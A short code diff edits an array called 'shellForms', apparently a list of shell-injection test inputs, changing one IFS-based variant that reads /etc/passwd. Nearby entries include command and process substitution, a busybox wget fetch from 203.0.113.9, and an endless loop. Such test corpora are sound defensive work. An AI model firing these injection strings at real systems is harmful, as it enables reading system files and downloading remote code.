@@ -153,7 +153,7 @@ const shellForms = [
   "/etc/ssh/sshd_config",
   "$(/bin/sleep 5)",
   "<(cat /etc/passwd)",
-  "${IFS}cat${IFS}/etc/passwd",
+  "$IFS;cat$IFS/etc/passwd",
   "if [ -f /etc/passwd ]; then cat /etc/passwd; fi",
   "while true; do echo x; done",
   "a;busybox wget http://203.0.113.9/m",
